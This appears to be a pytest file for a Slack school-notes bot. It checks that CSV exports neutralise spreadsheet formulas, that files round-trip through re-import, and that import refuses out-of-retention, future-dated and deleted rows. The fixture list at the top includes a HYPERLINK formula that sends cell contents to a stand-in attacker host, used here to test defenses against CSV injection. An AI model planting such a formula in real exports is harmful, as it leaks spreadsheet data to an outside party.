"""Exports a spreadsheet cannot run, and an import that knows what the database holds: `/notes export` over
Slack's protocol and `resolute notes list --csv|import` on the same database, SQLite and PostgreSQL.

A cell that begins like a formula is exported with a quote in front and imported back as it was; a row
identical to a stored note in every field is already there (as a spreadsheet saves it again: times to the
second, line breaks and trailing spaces aside), one differing in any field is new; a row older than
retention_days or dated after now is refused, and so is a note that was deleted, unless `--restore`."""

from __future__ import annotations

import csv
import functools
import io
import json
from datetime import datetime, timedelta

import pytest
from click.testing import CliRunner

from bot.cli import main
from bot.services import Services
from bot.slack.blocks import notes as kit
from tests.test_district import write_district
from tests.test_notes_cli import HEADER, NOW
from tests.test_notes_cli import TOML as CLI_TOML
from tests.test_notes_slack import ANA, STUDENT, buttons, served

RISKY = [  # each begins the way a spreadsheet formula does
    '=HYPERLINK("https://evil.example/?d="&A1,"Open the plan")',
    "+1 point on attendance since the call home",
    "-5 credits short: credit rescue plan agreed",
    "@risk list: attendance below 80%",
    "'=SUM(A1:A9) was typed with its quote",
]
FORMULA = ("=", "+", "-", "@", "\t", "\r")


def resolute(*args: str):
    return CliRunner().invoke(main, list(args))


@pytest.fixture
def desk(make_services, fake_slack, tmp_path, monkeypatch, embeddings, database_url):
    """The Slack desk of tests.test_notes_slack, and `resolute` on the same database and clock."""
    if database_url:
        monkeypatch.setenv("DATABASE_URL", database_url)
    with served(make_services, fake_slack, tmp_path) as running:
        monkeypatch.setenv("RESOLUTE_KNOWLEDGE_DIR", str(tmp_path / "knowledge"))
        clock = functools.partial(lambda desk: desk.now[0], running)
        monkeypatch.setattr(
            "bot.cli.Services", functools.partial(Services, embeddings=embeddings, clock=clock)
        )
        yield running


@pytest.fixture
def cli(tmp_path, monkeypatch, embeddings, database_url):
    """`resolute ...` on SQLite or PostgreSQL, at NOW, with tests.test_notes_cli's district loaded."""
    if database_url:
        monkeypatch.setenv("DATABASE_URL", database_url)
    monkeypatch.setenv("RESOLUTE_KNOWLEDGE_DIR", str(tmp_path / "knowledge"))
    monkeypatch.setattr(
        "bot.cli.Services", functools.partial(Services, embeddings=embeddings, clock=lambda: NOW)
    )

    def run(*args: str, toml: str = CLI_TOML):
        write_district(tmp_path / "knowledge" / "district", toml=toml)
        assert resolute("data", "load", "--no-index").exit_code == 0
        return resolute(*args)

    return run


def exported(desk, fake_slack) -> str:
    """`/notes export`: the CSV file Resolute sent by direct message."""
    before = set(fake_slack.files)
    assert "Sent to your direct messages" in desk.command(ANA, "/notes", "export")["text"]
    [new] = [f for name, f in fake_slack.files.items() if name not in before]
    return new["content"].decode()


def listed() -> list[dict]:
    result = resolute("notes", "list", "--json")
    assert result.exit_code == 0, result.output
    return json.loads(result.stdout)


# -- exports ---------------------------------------------------------------------------------------------
def test_an_export_cannot_run_formulas_and_imports_back_as_it_was(desk, fake_slack, tmp_path):
    for n, text in enumerate(RISKY):
        desk.later(60)
        desk.command(
            ANA, "/note", f"school:A student:{'+' if n == 0 else ''}{STUDENT} type:tutoring tier:2 {text}"
        )
    before = listed()
    assert sorted(n["text"] for n in before) == sorted(RISKY)
    table = exported(desk, fake_slack)
    rows = list(csv.DictReader(io.StringIO(table)))
    cells = [cell for row in rows for cell in row.values()]
    assert not [cell for cell in cells if cell.startswith(FORMULA)]  # nothing a spreadsheet would run
    assert sorted(row["text"] for row in rows) == sorted("'" + text for text in RISKY)
    assert f"'+{STUDENT}" in [row["student"] for row in rows]

    (tmp_path / "export.csv").write_text(table)
    again = resolute("notes", "import", str(tmp_path / "export.csv"))
    assert again.exit_code == 0, again.output
    assert (
        "Imported 0 new notes" in again.stdout
        and "5 were already there (lines 2, 3, 4, 5, 6)" in again.stdout
    )
    assert listed() == before  # read back as the text it was: the very same notes


def test_notes_list_csv_is_what_import_reads(cli, tmp_path):
    typed = (
        HEADER + 'A,S0001,tutoring,2,literacy,"=1+2, said the spreadsheet",,UANA,2026-11-16T14:05:00+00:00\n'
    )
    (tmp_path / "typed.csv").write_text(typed)
    assert cli("notes", "import", str(tmp_path / "typed.csv")).exit_code == 0  # a typed "=" is text as it is
    result = cli("notes", "list", "--csv")
    assert result.exit_code == 0, result.output
    [row] = list(csv.DictReader(io.StringIO(result.stdout)))
    assert row["text"] == "'=1+2, said the spreadsheet"
    (tmp_path / "listed.csv").write_text(result.stdout)
    again = cli("notes", "import", str(tmp_path / "listed.csv"))
    assert "Imported 0 new notes" in again.stdout and "1 was already there (line 2)" in again.stdout


# -- imports ---------------------------------------------------------------------------------------------
ROW = "A,S0001,credit_rescue,2,literacy,Lab make-up plan agreed,2026-12-01,UANA,2026-11-16T14:05:00+00:00\n"


def test_a_row_that_differs_from_a_stored_note_in_any_field_is_not_already_there(cli, tmp_path):
    (tmp_path / "one.csv").write_text(HEADER + ROW)
    assert "Imported 1 new note from" in cli("notes", "import", str(tmp_path / "one.csv")).stdout
    changed = [ROW.replace(",2,literacy", ",3,literacy"), ROW.replace("literacy", "numeracy"),
               ROW.replace("2026-12-01", "2026-12-08"), ROW.replace("S0001", "S0002")]  # fmt: skip
    (tmp_path / "more.csv").write_text(HEADER + ROW + "".join(changed))
    result = cli("notes", "import", str(tmp_path / "more.csv"))
    assert result.exit_code == 0, result.output
    assert "Imported 4 new notes" in result.stdout and "1 was already there (line 2)" in result.stdout
    notes = json.loads(cli("notes", "list", "--json").stdout)
    assert sorted((n["tier"], n["priority"], n["follow_up"], n["student"]) for n in notes) == [
        (2, "literacy", "2026-12-01", "S0001"), (2, "literacy", "2026-12-01", "S0002"),
        (2, "literacy", "2026-12-08", "S0001"), (2, "numeracy", "2026-12-01", "S0001"),
        (3, "literacy", "2026-12-01", "S0001")]  # fmt: skip


def test_a_row_older_than_retention_is_refused_with_its_line(cli, tmp_path):
    toml = CLI_TOML.replace("[notes]\n", "[notes]\nretention_days = 30\n")
    old = ROW.replace("2026-11-16T14:05:00+00:00", "2026-10-20T12:00:00+00:00")
    (tmp_path / "old.csv").write_text(HEADER + ROW + old)
    result = cli("notes", "import", str(tmp_path / "old.csv"), toml=toml)
    assert result.exit_code == 1 and "Traceback" not in result.output
    assert (
        "line 3: created_at: 2026-10-20 is older than the 30 days the district keeps notes " in result.stderr
    )
    assert "line 2" not in result.stderr and "Nothing was imported" in result.stderr
    assert json.loads(cli("notes", "list", "--json", toml=toml).stdout) == []  # all or nothing


def test_a_deleted_note_is_imported_again_only_with_restore(desk, fake_slack, tmp_path):
    first = desk.command(ANA, "/note", f"school:A type:tutoring tier:1 follow_up:2026-12-01 {RISKY[2]}")
    desk.later(60)
    desk.command(ANA, "/note", "school:B type:attendance Called home")
    before = {n["text"]: n for n in listed()}
    (tmp_path / "export.csv").write_text(exported(desk, fake_slack))  # newest first: line 3 is the first
    [delete] = buttons(first)[kit.DELETE]
    assert "is deleted" in desk.press(ANA, kit.DELETE, delete, block_id=kit.ONE)["text"]
    desk.later(86400)

    refused = resolute("notes", "import", str(tmp_path / "export.csv"))
    assert refused.exit_code == 1 and "Traceback" not in refused.output
    said = [line for line in refused.stderr.splitlines() if line.startswith("line ")]
    assert said == ["line 3: this note was deleted on 2026-11-20; `--restore` stores it again"]
    assert [n["text"] for n in listed()] == ["Called home"]  # all or nothing

    restored = resolute("notes", "import", "--restore", str(tmp_path / "export.csv"))
    assert restored.exit_code == 0, restored.output
    assert restored.stdout.strip().endswith(
        "Imported 1 new note from " + str(tmp_path / "export.csv") + ", 1 of them restored (line 3); "
        "1 was already there (line 2)."
    )
    back = {n["text"]: n for n in listed()}
    assert {k: {**n, "id": None} for k, n in back.items()} == {
        k: {**n, "id": None} for k, n in before.items()
    }
    again = resolute("notes", "import", str(tmp_path / "export.csv"))  # stored again: simply there
    assert "Imported 0 new notes" in again.stdout and "2 were already there" in again.stdout


def spreadsheet(table: str) -> bytes:
    """A CSV as a spreadsheet saves it again: times at whole seconds (rounded, as shown), line breaks
    written \\r\\n, spaces at the end of a line dropped; every other cell as it was."""
    out = io.StringIO()
    rows = list(csv.DictReader(io.StringIO(table)))
    writer = csv.DictWriter(out, fieldnames=list(rows[0]), lineterminator="\r\n")
    writer.writeheader()
    for row in rows:
        moment = datetime.fromisoformat(row["created_at"]) + timedelta(microseconds=500_000)
        lines = row["text"].replace("\r\n", "\n").split("\n")
        writer.writerow({**row, "created_at": moment.replace(microsecond=0).isoformat(),
                         "text": "\r\n".join(line.rstrip() for line in lines)})  # fmt: skip
    return out.getvalue().encode()


def test_a_note_saved_again_by_a_spreadsheet_is_known_as_the_same_note(desk, fake_slack, tmp_path):
    desk.later(0.123456)  # Slack's clock has microseconds: saved as 15:00:00
    typed = "type:tutoring Reading plan agreed with the family.  \r\nCall on Thursday."
    first = desk.command(ANA, "/note", typed)
    desk.later(60.6)  # 15:01:00.723456: saved as 15:01:01
    second = desk.command(ANA, "/note", f"type:attendance student:{STUDENT} Called home.   \nNo answer.")
    stored = listed()
    assert [n["created_at"][11:26] for n in stored] == ["15:01:00.723456", "15:00:00.123456"]
    assert stored[1]["text"] == "Reading plan agreed with the family.  \r\nCall on Thursday."  # as typed
    saved = tmp_path / "saved.csv"
    # newest first: the second note is line 2, the first (two lines of text) line 4
    saved.write_bytes(spreadsheet(exported(desk, fake_slack)))
    assert b"15:01:01+00:00" in saved.read_bytes() and b"15:00:00+00:00" in saved.read_bytes()

    again = resolute("notes", "import", str(saved))
    assert again.exit_code == 0, again.output
    assert "Imported 0 new notes" in again.stdout and "2 were already there (lines 2, 4)" in again.stdout
    assert listed() == stored  # nothing twice

    for reply in (first, second):
        [delete] = buttons(reply)[kit.DELETE]
        assert "is deleted" in desk.press(ANA, kit.DELETE, delete, block_id=kit.ONE)["text"]
    refused = resolute("notes", "import", str(saved))
    assert refused.exit_code == 1 and "Traceback" not in refused.output
    assert [line for line in refused.stderr.splitlines() if line.startswith("line ")] == [
        "line 2: this note was deleted on 2026-11-20; `--restore` stores it again",
        "line 4: this note was deleted on 2026-11-20; `--restore` stores it again",
    ]
    assert listed() == []  # a deleted note does not come back on its own
    restored = resolute("notes", "import", "--restore", str(saved))
    assert restored.exit_code == 0, restored.output
    assert "Imported 2 new notes" in restored.stdout and "2 of them restored (lines 2, 4)" in restored.stdout
    assert "Imported 0 new notes" in resolute("notes", "import", str(saved)).stdout


def test_a_row_dated_after_now_is_refused_with_its_line(cli, tmp_path):
    later = ROW.replace("2026-11-16T14:05:00+00:00", "2026-11-21T15:01:00+00:00")  # a minute after NOW
    far = ROW.replace("2026-11-16T14:05", "2099-01-01T00:00")
    (tmp_path / "later.csv").write_text(HEADER + ROW + later + far)
    result = cli("notes", "import", str(tmp_path / "later.csv"))
    assert result.exit_code == 1 and "Traceback" not in result.output
    assert [line for line in result.stderr.splitlines() if line.startswith("line ")] == [
        "line 3: created_at: 2026-11-21 10:01 is in the future (it is 2026-11-21 10:00 now)",
        "line 4: created_at: 2098-12-31 19:00 is in the future (it is 2026-11-21 10:00 now)",
    ]
    assert json.loads(cli("notes", "list", "--json").stdout) == []  # all or nothing
    (tmp_path / "now.csv").write_text(HEADER + ROW.replace("2026-11-16T14:05:00", "2026-11-21T15:00:00"))
    now = cli("notes", "import", str(tmp_path / "now.csv"))  # now itself is not later
    assert "Imported 1 new note" in now.stdout
